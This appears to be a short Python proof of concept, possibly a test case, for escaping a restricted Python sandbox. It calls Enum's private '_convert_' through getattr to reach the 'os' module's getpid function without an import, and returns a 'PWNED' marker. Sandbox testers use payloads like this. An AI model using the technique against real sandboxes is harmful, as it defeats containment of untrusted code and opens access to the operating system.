from enum import Enum


class E(Enum):
    pass


X = getattr(E, "_convert_")("X", "os", lambda name: name == "getpid")
return "PWNED " + repr(X.getpid.value())
